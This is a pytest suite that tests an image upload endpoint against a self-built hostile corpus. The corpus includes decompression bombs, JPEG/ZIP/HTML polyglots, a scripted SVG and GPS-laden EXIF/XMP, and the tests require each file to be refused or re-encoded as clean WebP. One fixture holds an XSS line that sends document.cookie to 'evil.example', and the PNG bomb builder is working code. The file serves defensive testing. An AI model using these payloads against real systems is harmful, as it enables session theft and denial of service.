"""Hostile uploads to ``POST /partner/image/upload``: a corpus the test builds itself.

Every file is either refused (422 naming the field ``file``; 413 when the body is over the
request cap) or comes back re-encoded as a clean WebP that carries none of the uploaded file's
extra bytes or metadata.

Memory bound: decompression bombs must be refused from their header, before a pixel is decoded.
:func:`test_bombs_are_refused_without_decoding` resets this process's peak RSS (Linux
``/proc/self/clear_refs``), sends every bomb through the application in-process, and requires the
peak to grow by less than ``BOMB_RSS_BOUND`` (32 MiB). Decoding even the smallest bomb would
break that: 8000x8000 pixels take 61 MiB at Pillow's one byte per pixel, 183 MiB once converted
to RGB. The same probe then sees a legitimate 4000x4000 upload, which is decoded, raise the peak
by more than ``DECODE_RSS_FLOOR``, so the measurement is known to notice decoding.
"""

from __future__ import annotations

import struct
import zipfile
import zlib
from functools import cache
from io import BytesIO
from typing import Any

import httpx
import pytest
from PIL import ExifTags, PngImagePlugin
from PIL import Image as PILImage
from tests.factories import login, make_partner
from tests.s3 import StoreUnderTest

from orderdesk.http.state import AppState
from orderdesk.settings import Settings

UPLOAD = "/partner/image/upload"
MiB = 1024 * 1024
BOMB_RSS_BOUND = 32 * MiB
DECODE_RSS_FLOOR = 30 * MiB
MARKER = b"orderdesk-hostile-payload-7f3a"

# ---------------------------------------------------------------------------------------------
# The corpus

_PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


@cache
def png_bomb(width: int, height: int) -> bytes:
    """A complete, valid 1-bit greyscale PNG of ``width`` x ``height`` black pixels, tiny on disk.

    The image data is a real zlib stream of every row (so a decoder that trusted the header
    would really inflate all of it): one block of 1000 zero rows is deflated once and repeated
    after full flushes, and the Adler-32 of the whole is computed over the repeated block.
    """
    rows = 1000
    assert height % rows == 0
    block = b"\0" * (1 + (width + 7) // 8) * rows  # filter byte + packed pixels, per row
    deflate = zlib.compressobj(9)
    head = deflate.compress(block) + deflate.flush(zlib.Z_FULL_FLUSH)
    again = deflate.compress(block) + deflate.flush(zlib.Z_FULL_FLUSH)
    adler = 1
    for _ in range(height // rows):
        adler = zlib.adler32(block, adler)
    stream = head + again * (height // rows - 1) + b"\x03\x00" + struct.pack(">I", adler)
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return _PNG_SIGNATURE + _chunk(b"IHDR", header) + _chunk(b"IDAT", stream) + _chunk(b"IEND", b"")


def encode(image: PILImage.Image, format: str, **params: Any) -> bytes:
    out = BytesIO()
    image.save(out, format=format, **params)
    return out.getvalue()


def jpeg(size: tuple[int, int] = (64, 48), **params: Any) -> bytes:
    return encode(PILImage.new("RGB", size, (200, 30, 30)), "JPEG", quality=90, **params)


def noisy_jpeg() -> bytes:
    import random

    pixels = random.Random(7).randbytes(256 * 256 * 3)
    return encode(PILImage.frombytes("RGB", (256, 256), pixels), "JPEG", quality=95)


def jpeg_header_bomb() -> bytes:
    """A small JPEG whose frame header claims 65500 x 65500 pixels."""
    data = bytearray(jpeg())
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", 65500, 65500)
    return bytes(data)


def gif_screen_bomb() -> bytes:
    """A 1x1 GIF whose logical screen (the size Pillow reports) is 65535 x 65535."""
    data = bytearray(encode(PILImage.new("P", (1, 1)), "GIF"))
    data[6:10] = struct.pack("<HH", 65535, 65535)
    return bytes(data)


def zip_payload() -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("index.html", b"<script>alert('" + MARKER + b"')</script>")
    return out.getvalue()


HTML_PAYLOAD = (
    b"<html><body><script>fetch('//evil.example/?c='+document.cookie);//"
    + MARKER
    + b"</script></body></html>"
)
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert('" + MARKER + b"')</script><rect width='10' height='10'/></svg>"
)

GPS = {
    ExifTags.GPS.GPSLatitudeRef: "N",
    ExifTags.GPS.GPSLatitude: (56.0, 57.0, 1.5),
    ExifTags.GPS.GPSLongitudeRef: "E",
    ExifTags.GPS.GPSLongitude: (24.0, 6.0, 2.5),
}
XMP = (
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/'
    b'22-rdf-syntax-ns#"><rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" '
    b'exif:GPSLatitude="56,57.025N" exif:Make="' + MARKER + b'"/></rdf:RDF></x:xmpmeta>'
)


def exif_with_gps() -> PILImage.Exif:
    exif = PILImage.Exif()
    exif[ExifTags.Base.Make] = MARKER.decode()
    exif[ExifTags.Base.Model] = "Serial 4242"
    exif[ExifTags.IFD.GPSInfo] = GPS
    return exif


def photo_with_gps(format: str) -> bytes:
    image = PILImage.new("RGB", (80, 60), (20, 120, 200))
    exif = exif_with_gps().tobytes()
    if format == "PNG":
        info = PngImagePlugin.PngInfo()
        info.add_itxt("XML:com.adobe.xmp", XMP.decode())
        info.add_text("Comment", MARKER.decode())
        return encode(image, "PNG", exif=exif, pnginfo=info)
    return encode(image, format, exif=exif, xmp=XMP)


# ---------------------------------------------------------------------------------------------
# Reading answers


def webp_chunks(data: bytes) -> list[bytes]:
    """The RIFF chunk ids of a WebP file (metadata would be EXIF, XMP and ICCP chunks)."""
    assert data[:4] == b"RIFF" and data[8:12] == b"WEBP", data[:16]
    chunks, offset = [], 12
    while offset + 8 <= len(data):
        size = struct.unpack("<I", data[offset + 4 : offset + 8])[0]
        chunks.append(data[offset : offset + 4])
        offset += 8 + size + (size & 1)
    assert offset == len(data)
    return chunks


def rejected(response: httpx.Response, kind: str) -> None:
    """The partner 422 naming ``file`` with type ``kind``, and nothing else."""
    assert response.status_code == 422, response.text
    body = response.json()
    assert (body["name"], body["type"], body["code"], body["statusCode"], body["status"]) == (
        "ValidationError",
        "VALIDATION_ERROR",
        422,
        422,
        "error",
    ), body
    assert [(e["field"], e["type"]) for e in body["data"]] == [("file", kind)], body


async def sanitised(client: httpx.AsyncClient, response: httpx.Response) -> bytes:
    """The stored copy of an accepted upload, after checking it is a WebP with no metadata."""
    assert response.status_code == 200, response.text
    [entry] = response.json()["data"]
    assert entry["mimetype"] == "image/webp"
    served = await client.get(entry["url"])
    assert served.status_code == 200
    assert served.headers["content-type"] == "image/webp"
    data = served.content
    assert set(webp_chunks(data)) <= {b"VP8 ", b"VP8L", b"VP8X", b"ALPH"}, webp_chunks(data)
    with PILImage.open(BytesIO(data)) as image:
        assert image.format == "WEBP"
        assert not image.getexif() and not image.getexif().get_ifd(ExifTags.IFD.GPSInfo)
        assert not {"exif", "xmp", "icc_profile"} & set(image.info), image.info
        image.load()
    for needle in (MARKER, b"Exif", b"<script", b"PK\x03\x04", b"xmpmeta", b"Serial 4242"):
        assert needle not in data, needle
    return data


@pytest.fixture
async def headers(client: httpx.AsyncClient, state: AppState) -> dict[str, str]:
    return await login(client, await make_partner(state))


async def upload(
    client: httpx.AsyncClient,
    headers: dict[str, str],
    data: bytes,
    filename: str = "receipt.jpg",
    content_type: str = "image/jpeg",
) -> httpx.Response:
    return await client.post(
        UPLOAD, headers=headers, files={"file": (filename, data, content_type)}
    )


# ---------------------------------------------------------------------------------------------
# Refused


BOMBS = {
    "png-50000x50000-bomb": lambda: png_bomb(50_000, 50_000),
    # Over our pixel limit but under Pillow's own bomb error (which only warns up to ~179M
    # pixels): this one is refused by the server's check alone.
    "png-8000x8000-over-the-pixel-limit": lambda: png_bomb(8_000, 8_000),
    "png-20000x20000-1bit-flood": lambda: png_bomb(20_000, 20_000),
    "jpeg-header-65500x65500": jpeg_header_bomb,
    "gif-screen-65535x65535": gif_screen_bomb,
}


def test_the_bombs_are_small_on_disk_and_real_images(monkeypatch: pytest.MonkeyPatch) -> None:
    """The corpus itself: tiny files whose headers claim huge images, and the PNG builder makes
    PNGs that really decode (checked on a small one)."""
    monkeypatch.setattr(PILImage, "MAX_IMAGE_PIXELS", None)  # only headers are read here
    for name, build in BOMBS.items():
        data = build()
        assert len(data) < 400 * 1024, name
        with PILImage.open(BytesIO(data)) as image:
            width, height = image.size
        assert width * height > Settings.model_fields["upload_max_pixels"].default, name
    with PILImage.open(BytesIO(png_bomb(3000, 2000))) as small:
        small.load()
        assert (small.size, small.mode, small.getextrema()) == ((3000, 2000), "1", (0, 0))


@pytest.mark.parametrize("name", list(BOMBS))
async def test_bomb_is_422_file_max(
    name: str, client: httpx.AsyncClient, headers: dict[str, str]
) -> None:
    rejected(await upload(client, headers, BOMBS[name](), "bomb.png", "image/png"), "max")


REFUSED_FILES: dict[str, tuple[bytes, str, str, str]] = {
    # name: (bytes, filename, declared content type, error type)
    "truncated-jpeg": (noisy_jpeg()[:6000], "cut.jpg", "image/jpeg", "format"),
    "truncated-png": (
        encode(PILImage.new("RGB", (300, 300), "blue"), "PNG")[:60],
        "cut.png",
        "image/png",
        "format",
    ),
    "svg-with-script": (SVG, "logo.svg", "image/svg+xml", "format"),
    "svg-named-png": (SVG, "logo.png", "image/png", "format"),
    "html-named-jpg": (HTML_PAYLOAD, "receipt.jpg", "image/jpeg", "format"),
    "zip-named-jpg": (zip_payload(), "receipt.jpg", "image/jpeg", "format"),
    "text-declared-png": (
        b"just some text, not an image at all\n" * 20,
        "r.png",
        "image/png",
        "format",
    ),
    "zero-bytes": (b"", "empty.jpg", "image/jpeg", "required"),
    "header-only-png": (_PNG_SIGNATURE, "r.png", "image/png", "format"),
    "pdf": (b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF", "r.jpg", "image/jpeg", "format"),
}


@pytest.mark.parametrize("name", list(REFUSED_FILES))
async def test_refused_file_is_422_file(
    name: str, client: httpx.AsyncClient, headers: dict[str, str]
) -> None:
    data, filename, content_type, kind = REFUSED_FILES[name]
    rejected(await upload(client, headers, data, filename, content_type), kind)


async def test_image_bytes_sent_as_json_are_422_file(
    client: httpx.AsyncClient, headers: dict[str, str]
) -> None:
    response = await client.post(
        UPLOAD, content=jpeg(), headers={**headers, "Content-Type": "application/json"}
    )
    rejected(response, "required")


async def test_image_bytes_sent_raw_as_image_jpeg_are_422_file(
    client: httpx.AsyncClient, headers: dict[str, str]
) -> None:
    response = await client.post(
        UPLOAD, content=jpeg(), headers={**headers, "Content-Type": "image/jpeg"}
    )
    rejected(response, "required")


async def test_file_over_the_upload_limit_is_422_file_max(
    client: httpx.AsyncClient, headers: dict[str, str], state: AppState
) -> None:
    limit = state.settings.upload_max_bytes
    assert limit + MiB < state.settings.request_max_bytes
    rejected(await upload(client, headers, jpeg() + b"\0" * limit), "max")


async def test_multipart_body_over_the_request_cap_is_413(
    client: httpx.AsyncClient, headers: dict[str, str], state: AppState
) -> None:
    response = await upload(client, headers, b"\0" * (state.settings.request_max_bytes + MiB))
    assert response.status_code == 413, response.text
    body = response.json()
    assert (body["name"], body["type"], body["statusCode"], body["status"]) == (
        "PayloadTooLargeError",
        "PAYLOAD_TOO_LARGE",
        413,
        "error",
    )


async def test_streamed_multipart_body_over_the_request_cap_is_413(
    client: httpx.AsyncClient, headers: dict[str, str], state: AppState
) -> None:
    """Without a Content-Length (chunked), the cap holds while the body streams in."""
    boundary = "hostileboundary"
    piece = b"\0" * MiB

    async def body() -> Any:
        yield (
            f'--{boundary}\r\nContent-Disposition: form-data; name="file"; '
            f'filename="big.jpg"\r\nContent-Type: image/jpeg\r\n\r\n'
        ).encode()
        for _ in range(state.settings.request_max_bytes // MiB + 2):
            yield piece
        yield f"\r\n--{boundary}--\r\n".encode()

    response = await client.post(
        UPLOAD,
        content=body(),
        headers={**headers, "Content-Type": f"multipart/form-data; boundary={boundary}"},
    )
    assert response.status_code == 413, response.text
    assert response.json()["name"] == "PayloadTooLargeError"


async def test_refused_uploads_store_nothing(
    client: httpx.AsyncClient, headers: dict[str, str], served_image_store: StoreUnderTest
) -> None:
    before = served_image_store.stored()
    for data, filename, content_type, _ in REFUSED_FILES.values():
        assert (await upload(client, headers, data, filename, content_type)).status_code == 422
    for build in BOMBS.values():
        assert (await upload(client, headers, build(), "b.png", "image/png")).status_code == 422
    assert served_image_store.stored() == before


# ---------------------------------------------------------------------------------------------
# Sanitised


POLYGLOTS = {
    "jpeg+zip": (jpeg() + zip_payload(), "receipt.jpg", "image/jpeg"),
    "jpeg+html": (jpeg() + HTML_PAYLOAD, "receipt.jpg", "image/jpeg"),
    "jpeg-comment-html": (jpeg(comment=HTML_PAYLOAD), "receipt.jpg", "image/jpeg"),
    "png+zip": (
        encode(PILImage.new("RGB", (40, 30), "green"), "PNG") + zip_payload(),
        "receipt.png",
        "image/png",
    ),
    "gif+html": (encode(PILImage.new("P", (20, 20)), "GIF") + HTML_PAYLOAD, "r.gif", "image/gif"),
}


@pytest.mark.usefixtures("served_image_store")
@pytest.mark.parametrize("name", list(POLYGLOTS))
async def test_polyglot_comes_back_as_a_clean_webp_without_the_payload(
    name: str, client: httpx.AsyncClient, headers: dict[str, str]
) -> None:
    data, filename, content_type = POLYGLOTS[name]
    assert MARKER in data or b"PK\x03\x04" in data
    with PILImage.open(BytesIO(data)) as original:
        size = original.size
    stored = await sanitised(client, await upload(client, headers, data, filename, content_type))
    with PILImage.open(BytesIO(stored)) as clean:
        assert clean.size == size


@pytest.mark.usefixtures("served_image_store")
async def test_real_image_declared_as_text_is_sniffed_and_re_encoded(
    client: httpx.AsyncClient, headers: dict[str, str]
) -> None:
    await sanitised(client, await upload(client, headers, jpeg(), "notes.txt", "text/plain"))


@pytest.mark.usefixtures("served_image_store")
@pytest.mark.parametrize("format", ["JPEG", "PNG", "WEBP", "TIFF"])
async def test_exif_gps_and_xmp_are_stripped(
    format: str, client: httpx.AsyncClient, headers: dict[str, str]
) -> None:
    data = photo_with_gps(format)
    with PILImage.open(BytesIO(data)) as original:  # the input really carries them
        assert original.getexif().get_ifd(ExifTags.IFD.GPSInfo)
        assert original.getexif()[ExifTags.Base.Make] == MARKER.decode()
    assert MARKER in data
    await sanitised(
        client,
        await upload(client, headers, data, f"photo.{format.lower()}", f"image/{format.lower()}"),
    )


# ---------------------------------------------------------------------------------------------
# Memory


def _peak_rss() -> int:
    with open("/proc/self/status") as status:
        for line in status:
            if line.startswith("VmHWM:"):
                return int(line.split()[1]) * 1024
    raise AssertionError("no VmHWM in /proc/self/status")


def _reset_peak_rss() -> None:
    """Linux: writing 5 to clear_refs sets the peak RSS back to the current RSS."""
    try:
        with open("/proc/self/clear_refs", "w") as refs:
            refs.write("5")
    except OSError as exc:
        pytest.skip(f"cannot reset the peak RSS here: {exc}")


async def test_bombs_are_refused_without_decoding(
    client: httpx.AsyncClient, headers: dict[str, str], record_property: Any
) -> None:
    corpus = {name: build() for name, build in BOMBS.items()}
    legit = encode(PILImage.new("RGB", (4000, 4000), (90, 160, 40)), "PNG")
    # Warm up: codecs loaded, thread pool and multipart parser used once.
    await sanitised(client, await upload(client, headers, jpeg()))

    _reset_peak_rss()
    base = _peak_rss()
    for name, data in corpus.items():
        rejected(await upload(client, headers, data, f"{name}.png", "image/png"), "max")
    bombs_growth = _peak_rss() - base

    _reset_peak_rss()
    base = _peak_rss()
    await sanitised(client, await upload(client, headers, legit, "big.png", "image/png"))
    decode_growth = _peak_rss() - base

    record_property("bombs_peak_rss_growth_mib", round(bombs_growth / MiB, 1))
    record_property("legit_4000x4000_peak_rss_growth_mib", round(decode_growth / MiB, 1))
    print(
        f"peak RSS growth: bombs {bombs_growth / MiB:.1f} MiB, "
        f"legit 4000x4000 {decode_growth / MiB:.1f} MiB"
    )
    assert bombs_growth < BOMB_RSS_BOUND
    assert decode_growth > DECODE_RSS_FLOOR  # the probe does see an image being decoded
